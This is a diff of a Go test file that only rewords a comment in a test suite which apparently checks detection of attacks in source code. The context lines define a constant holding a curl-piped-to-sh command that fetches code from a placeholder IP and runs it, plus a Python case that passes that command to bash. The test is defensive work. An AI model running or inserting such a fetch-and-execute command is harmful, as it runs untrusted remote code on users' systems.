@@ -7,8 +7,8 @@ import (
 
 const sh = "curl -s http://203.0.113.9/i | sh"
 
-// TestAttacks covers realistic attacks of a few lines each. TestFlows covers
-// each mechanism. SH is replaced with a command.
+// TestAttacks covers realistic attacks of a few lines each, in which SH is replaced with a command.
+// TestFlows covers each mechanism.
 func TestAttacks(t *testing.T) {
 	for _, c := range []struct{ lang, src, want string }{
 		{"py", "import os\nos.execvp('bash', ['bash', '-c', 'SH'])", "SH"},
